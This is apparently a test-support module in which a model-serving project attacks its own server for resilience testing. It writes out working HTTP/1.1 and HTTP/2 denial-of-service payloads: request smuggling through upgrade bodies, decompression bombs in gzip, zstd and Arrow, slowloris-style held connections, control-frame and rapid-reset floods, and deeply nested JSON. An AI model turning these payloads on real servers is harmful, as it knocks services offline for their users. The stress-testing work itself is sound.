"""Attacks on a server, as functions of its address that end by themselves."""

import contextlib
import gzip
import io
import json
import socket
import struct
import time
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any, Final

import pyarrow as pa

from server.codecs.tables.compression import CompressingSink
from tests.fuzz.http2 import Http2Client
from tests.passenger import PASSENGER
from tests.server.support.rpc import INFER
from tests.server.support.tables import PASSENGERS, Kept

Address = tuple[str, int]
Attack = Callable[[Address], None]
MEGABYTE: Final = 1_000_000
_SECONDS: Final = 4.0
"""Duration of an attack that has no end of its own."""
_PATIENCE_S: Final = 60.0
_SETTINGS: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0" + bytes(4)


def _send(address: Address, pieces: Iterable[bytes], *, seconds: float = _SECONDS, read: bool = True) -> bytes:
    """Send pieces on one connection; return the first bytes of the response.

    Sends for at most `seconds`.
    """
    end_s = time.monotonic() + seconds
    with contextlib.suppress(OSError), socket.create_connection(address, timeout=_PATIENCE_S) as connection:
        connection.settimeout(seconds)
        with contextlib.suppress(OSError):
            for piece in pieces:
                connection.sendall(piece)
                if time.monotonic() > end_s:
                    break
        connection.settimeout(_PATIENCE_S)
        return connection.recv(65_536) if read else b""
    return b""


def _at_once(address: Address, requests: Iterable[bytes], clients: int = 8) -> None:
    """Send requests in parallel, and read the first bytes of each response."""
    with ThreadPoolExecutor(clients) as threads:
        list(threads.map(lambda data: _send(address, [data]), requests))


def _post(path: str, body: bytes, *headers: str, stated: int | None = None) -> bytes:
    length = len(body) if stated is None else stated
    lines = [f"POST {path} HTTP/1.1", "host: x", "connection: close", f"content-length: {length}", *headers]
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def smuggled_requests(address: Address) -> None:
    """Send upgrade requests with a second request as the body."""
    body = b"POST /v2/repository/models/titanic/unload HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\n\r\n"
    offers = ("h2c", "websocket", "foo")
    _at_once(address, [_post("/api/predict", body, f"upgrade: {each}", "connection: upgrade") for each in offers * 10])


def endless_trailers(address: Address) -> None:
    """Send an endless sequence of trailers after a chunked body."""

    def pieces() -> Iterator[bytes]:
        yield b"POST /api/predict HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n"
        trailers = b"".join(b"t%d: %b\r\n" % (each, b"v" * 50) for each in range(1000))
        for _ in range(400):
            yield trailers

    for _ in range(3):
        _send(address, pieces())


def compressed_quotes(address: Address) -> None:
    """Send 4 kB of gzip that decompress to 4 MB of quotes."""
    packed = gzip.compress(b'{"records":[' + b'"' * 4_000_000)
    paths = ("/api/predict", "/v2/models/titanic/infer", "/api/explain")
    _at_once(address, [_post(path, packed, "content-encoding: gzip") for path in paths * 4])


def held_bodies(address: Address) -> None:
    """Send all but the last byte of a body on hundreds of connections, and wait."""
    body = b" " * (4 * MEGABYTE)
    with contextlib.ExitStack() as held:
        end_s = time.monotonic() + 2 * _SECONDS
        for _ in range(300):
            if time.monotonic() > end_s:
                break
            with contextlib.suppress(OSError):
                connection = held.enter_context(socket.create_connection(address, timeout=1.0))
                connection.sendall(_post("/api/predict", body, stated=len(body) + 1))


def held_streams(address: Address) -> None:
    """Hold bodies over HTTP/2: a hundred streams on each connection, and no stream ends."""
    chunk = b"\0\x40\0" + b"\0\0"

    def pieces() -> Iterator[bytes]:
        client = Http2Client()
        for _ in range(100):
            client.send("/api/predict", b"", ("content-length", "4000000"), ends=False)
        yield client.data()
        for _ in range(200):
            for stream in range(1, 200, 2):
                yield chunk + stream.to_bytes(4, "big") + b" " * 16_384

    with ThreadPoolExecutor(3) as threads:
        list(threads.map(lambda _: _send(address, pieces()), range(3)))


def _file(address: Address, body: bytes, *headers: str) -> None:
    requests = [_post("/api/batch", body, *headers), _post("/api/batch?on_error=null", body, *headers)]
    with ThreadPoolExecutor(2) as threads:
        list(threads.map(lambda data: _send(address, [data]), requests))


def _zstd(body: bytes) -> bytes:
    kept = Kept()
    packed = CompressingSink(kept, "zstd")
    packed.write(body)
    packed.end()
    return bytes(kept.data)


def wide_csv(address: Address) -> None:
    """Send a CSV of 145,000 columns and 2,048 rows, compressed by zstd to 20 kB."""
    names = ",".join([*PASSENGER, *(f"c{each}" for each in range(145_000))]).encode()
    body = _zstd(names + b"\n" + b"1,male,1,1,1,1,S\n" * 2048)
    _file(address, body, "content-type: text/csv", "content-encoding: zstd")


def many_fields(address: Address) -> None:
    """Send NDJSON with different extra fields in every line."""
    lines = (json.dumps(PASSENGER | {f"field {row} {each}": 1 for each in range(40)}) for row in range(2_000))
    body = "\n".join(lines).encode()
    _file(address, body, "content-type: application/x-ndjson", "accept: text/csv")


def _ipc(table: pa.Table, codec: Any = None) -> bytes:  # noqa: ANN401 # pyarrow's codec type
    out = io.BytesIO()
    with pa.ipc.new_stream(out, table.schema, options=pa.ipc.IpcWriteOptions(compression=codec)) as writer:
        writer.write_table(table)
    return out.getvalue()


def arrow_bombs(address: Address) -> None:
    """Send small Arrow streams that expand to large ones."""
    rows = 4_000
    zeros = pa.array([0] * rows, pa.int32())
    text = pa.array(["v" * 60_000])
    texts = pa.DictionaryArray.from_arrays(zeros, text)
    lists = pa.DictionaryArray.from_arrays(zeros, pa.array([["v" * 1000] * 1000]))
    offsets = pa.array(range(0, rows * 20 + 1, 20), pa.int32())
    codes = pa.DictionaryArray.from_arrays(pa.array([0] * rows * 20, pa.int32()), text)
    passengers = pa.table({name: values[:1] * rows for name, values in PASSENGERS.items()})
    for columns in (
        {"x": texts},
        {"x": lists},
        {"x": pa.ListArray.from_arrays(offsets, codes)},
        {f"c{each}": texts for each in range(100)},
        {"x": pa.ListArray.from_arrays(offsets, pa.nulls(rows * 20, pa.float64()).fill_null(0.0))},
    ):
        table = passengers
        for name, values in columns.items():
            table = table.append_column(name, values)
        _file(address, _ipc(table, "zstd"), "content-type: application/vnd.apache.arrow.stream")


def large_protobuf_json(address: Address) -> None:
    """Send RPC requests with megabytes of protobuf JSON."""
    numbers = ["1"] * 700_000
    document = {
        "modelName": "titanic",
        "inputs": [{"name": "pclass", "datatype": "INT64", "contents": {"int64Contents": numbers}}],
    }
    body = json.dumps(document).encode()[: 4 * MEGABYTE]
    _at_once(address, [_post(INFER, body, "content-type: application/json")] * 12, 12)


def control_frames(address: Address) -> None:
    """Flood HTTP/2 connections with frames that carry no request."""
    ping = b"\0\0\x08\6\0" + bytes(4) + b"12345678"
    settings = b"\0\0\6\4\0" + bytes(4) + b"\0\4\0\1\0\0"
    window = b"\0\0\4\x08\0" + bytes(4) + b"\0\0\0\1"
    priority = b"\0\0\5\2\0" + b"\0\0\0\1" + b"\0\0\0\0\x10"
    data = Http2Client().send("/api/predict", b"", ends=False).data() + b"\0\0\0\0\0\0\0\0\1" * 2_000
    reset = b"".join(_reset(stream) for stream in range(1, 400, 2))
    floods = [_SETTINGS + each * 2_000 for each in (ping, settings, window, priority)] + [data, _SETTINGS + reset]

    def flood(first: bytes) -> None:
        again = first.removeprefix(_SETTINGS) if first.startswith(_SETTINGS) else b"\0\0\0\0\0\0\0\0\1" * 2_000
        _send(address, (first if each == 0 else again for each in range(300)))

    with ThreadPoolExecutor(len(floods)) as threads:
        list(threads.map(flood, floods))


def _reset(stream: int) -> bytes:
    """Return a HEADERS frame of a request and a RST_STREAM frame that cancels it."""
    head = b"\x83\x86\x84\x01\x01x"
    number = stream.to_bytes(4, "big")
    return struct.pack(">I", len(head))[1:] + b"\1\4" + number + head + b"\0\0\4\3\0" + number + b"\0\0\0\x08"


def large_requests(address: Address) -> None:
    """Send many requests of thousands of rows in parallel."""
    body = json.dumps({"records": [PASSENGER] * 2_000}).encode()
    _at_once(address, [_post("/api/predict", body)] * 64, 32)


def deep_documents(address: Address) -> None:
    """Send deeply nested JSON, and strings that are not valid UTF-8."""
    deep = [opened * 2_000_000 for opened in (b"[", b'{"a":')]
    wrong = [b'{"sex": "' + each * 300_000 + b'"}' for each in (b"\xff", b"\\ud800", b"\xed\xa0\x80")]
    paths = ("/api/predict", "/v2/models/titanic/infer", "/api/explain", INFER)
    _at_once(address, [_post(path, body[: 4 * MEGABYTE]) for path in paths for body in (*deep, *wrong)], 4)


def crawling_clients(address: Address) -> None:
    """Take every place of the batch endpoint, and send one byte every 0.3 seconds."""

    def pieces() -> Iterator[bytes]:
        yield b"PUT /api/batch HTTP/1.1\r\nhost: x\r\ncontent-type: text/csv\r\ntransfer-encoding: chunked\r\n\r\n"
        for _ in range(10):
            yield b"1\r\np\r\n"
            time.sleep(0.3)

    with ThreadPoolExecutor(8) as threads:
        list(threads.map(lambda _: _send(address, pieces(), read=False), range(8)))


ATTACKS: Final = (
    smuggled_requests,
    endless_trailers,
    compressed_quotes,
    held_bodies,
    held_streams,
    wide_csv,
    many_fields,
    arrow_bombs,
    large_protobuf_json,
    control_frames,
    large_requests,
    deep_documents,
    crawling_clients,
)
"""All attacks. Each runs while good clients send requests."""
